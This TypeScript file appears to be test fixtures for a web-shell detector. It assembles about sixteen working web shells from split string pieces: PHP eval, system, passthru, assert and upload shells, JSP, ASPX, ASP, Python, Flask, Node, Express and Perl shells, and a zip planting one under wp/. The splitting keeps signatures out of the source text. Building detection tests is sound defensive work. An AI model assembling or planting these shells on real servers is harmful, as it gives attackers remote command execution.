import { cases } from '../case.ts'
import { zip } from '../writers/zip.ts'
import { EVAL, EXEC, glue, SYSTEM } from './pieces.ts'

const phpShell = glue('<?p', 'hp @', EVAL, '($_PO', "ST['pass']); ?>")

export const webShellCases = cases([
  ['x.php', 'a one-line PHP web shell', phpShell],
  [
    'cmd.php',
    'a PHP web shell that runs commands',
    glue(
      '<?p',
      'hp\nif (isset($_REQ',
      "UEST['cmd'])) {\n  echo '<pre>';\n  ",
      SYSTEM,
      '($_REQ',
      "UEST['cmd']);\n  echo '</pre>';\n}\n?>\n",
    ),
  ],
  [
    'image.php',
    'a PHP web shell behind a GIF signature',
    glue('GIF89a;\n<?p', 'hp pass', 'thru($_GE', "T['c']); ?>\n"),
  ],
  ['assert.php', 'a PHP web shell through assert', glue('<?p', 'hp ass', 'ert($_PO', "ST['x']); ?>\n")],
  ['backtick.php', 'a PHP web shell through backticks', glue('<?p', 'hp echo `{$_GE', "T['cmd']}`; ?>\n")],
  [
    'variable.php',
    'a PHP web shell through a variable function',
    glue('<?p', 'hp $f = $_GE', "T['f']; $f($_GE", "T['a']); ?>\n"),
  ],
  [
    'upload.php',
    'a PHP web shell that takes files and commands',
    glue(
      '<?p',
      'hp\nif (isset($_FI',
      "LES['f'])) move_uploaded_file($_FI",
      "LES['f']['tmp_name'], $_PO",
      "ST['to']);\nif (isset($_PO",
      "ST['c'])) echo shell_",
      EXEC,
      '($_PO',
      "ST['c']);\n",
    ),
  ],
  [
    'shell.jsp',
    'a JSP web shell',
    glue(
      '<%@ page import="java.io.*" %>\n<% Process p = Runtime.get',
      'Runtime().',
      EXEC,
      '(request.get',
      'Parameter("cmd")); %>\n',
    ),
  ],
  [
    'shell.aspx',
    'an ASPX web shell',
    glue(
      '<%@ Page Language="C#" %>\n<% var p = new System.Diagnostics.',
      'Process(); p.StartInfo.FileName = "cmd',
      '.exe"; p.StartInfo.Arguments = "/c " + Request',
      '["cmd"]; p.StartInfo.UseShell',
      'Execute = false; p.Start(); %>\n',
    ),
  ],
  [
    'chopper.aspx',
    'a one-line ASPX web shell',
    glue('<%@ Page Language="Jscript"%><%', EVAL, '(Request.It', 'em["x"],"uns', 'afe");%>'),
  ],
  ['shell.asp', 'a classic ASP web shell', glue('<%', EVAL, ' requ', 'est("x")%>')],
  [
    'shell.py',
    'a Python CGI web shell',
    glue(
      '#!/usr/bin/env python3\nimport cgi, os\nprint("Content-Type: text/plain\\n")\nform = cgi.Field',
      'Storage()\nos.',
      SYSTEM,
      '(form.get',
      'value("cmd"))\n',
    ),
  ],
  [
    'flask.py',
    'a Flask web shell',
    glue(
      'from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route("/")\ndef run():\n    return subprocess.check_',
      'output(request.args',
      '.get("cmd"), shell=True)\n',
    ),
  ],
  [
    'shell.js',
    'a Node web shell',
    glue(
      "require('http').createServer((req, res) => {\n  const cmd = new URL(req.url, 'http://a').searchParams.get('cmd')\n  require('child_",
      "process').",
      EXEC,
      '(cmd, (e, out) => res.end(out))\n}).listen(8080)\n',
    ),
  ],
  [
    'app.js',
    'a web shell on Express',
    glue(
      "const express = require('express')\nconst { ",
      EXEC,
      " } = require('child_",
      "process')\nconst app = express()\napp.get('/', (req, res) => ",
      EXEC,
      '(req.que',
      'ry.cmd, (error, stdout) => res.send(stdout)))\napp.listen(3000)\n',
    ),
  ],
  [
    'shell.pl',
    'a Perl CGI web shell',
    glue(
      '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\n',
      SYSTEM,
      '($q->par',
      'am("cmd"));\n',
    ),
  ],
  [
    'site.zip',
    'a PHP web shell in a zip',
    () =>
      zip([
        { name: 'index.php', data: '<?php echo 1;' },
        { name: 'wp/x.php', data: phpShell },
      ]),
  ],
])
